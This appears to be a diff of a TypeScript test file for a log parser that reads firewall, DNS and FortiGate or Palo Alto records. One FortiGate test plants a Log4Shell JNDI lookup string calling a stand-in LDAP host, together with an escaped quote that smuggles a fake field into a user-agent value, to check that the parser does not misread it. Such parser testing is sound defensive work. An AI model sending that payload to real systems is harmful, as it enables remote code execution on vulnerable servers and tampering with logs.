@@ -56,6 +56,10 @@ test.each([
     'netfilter',
     'Dec 10 12:43:13 fw kernel: [1.0] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=203.0.113.66 LEN=60 PROTO=TCP SPT=4 DPT=1389 SYN',
   ],
+  [
+    'filterlog',
+    'Dec 10 12:43:13 fw filterlog[812]: 5,,,1000000103,em0,match,pass,out,4,0x0,,64,4711,0,DF,6,tcp,60,10.0.0.5,203.0.113.66,40000,1389,0,S,1,,64240,,mss',
+  ],
 ])('what syslog puts before a record of %s gives its time', (id, record) => {
   const { format, record: read } = new FormatChooser().read(record, context(undefined))
 
@@ -71,4 +75,34 @@ test('an address of the kernel, with all its zeros, is written as others write i
   const { record: read } = new FormatChooser().read(record, context(undefined))
 
   expect(read.saw).toMatchObject({ to: '2001:db8::1:0:0:66', by: '2001:db8::5' })
+})
+
+test('what Kubernetes puts before a record of CoreDNS gives its time', () => {
+  const record =
+    '2021-12-10T12:43:13.5Z stdout F [INFO] 10.0.0.5:40000 - 4711 "A IN x.evil.example. udp 41 false 512" NOERROR qr,rd,ra 80 0.001s'
+
+  const { format, record: read } = new FormatChooser().read(record, context(undefined))
+
+  expect(format).toBe('kubernetes > coredns')
+  expect(read).toMatchObject({ when: instant('2021-12-10T12:43:13.5Z'), saw: { name: 'x.evil.example' } })
+})
+
+test('what an attacker writes into a value of FortiGate is read as it is, and adds no values', () => {
+  const record =
+    'date=2021-12-10 time=12:43:12 logid="1" srcip=203.0.113.9 dstip=10.0.0.4 dstport=80 proto=6 hostname="a.example" url="/" agent="x\\" dstip=192.0.2.1 ${jndi:ldap://x.example/a}"'
+
+  const { record: read } = new FormatChooser().read(record, context(undefined))
+
+  expect(read.userAgent).toBe('x\\" dstip=192.0.2.1 ${jndi:ldap://x.example/a}')
+  expect(read.saw).toMatchObject({ to: '10.0.0.4', name: 'a.example' })
+})
+
+test('a URL of Palo Alto may have commas and quotes in it', () => {
+  const before =
+    '1,2021/12/10 12:43:13,0128,THREAT,url,2305,2021/12/10 12:43:12,10.0.0.5,203.0.113.66,0.0.0.0,0.0.0.0,out,,,web-browsing,vsys1,trust,untrust,a,b,fwd,2021/12/10 12:43:13,4711,1,40000,80,0,0,0x0,tcp,alert'
+
+  const { record: read } = new FormatChooser().read(`${before},"a.example/x,""y"",z",(9999),any`, context(undefined))
+
+  expect(read.request).toBe('a.example/x,"y",z')
+  expect(read.saw).toMatchObject({ name: 'a.example', port: 80 })
 })
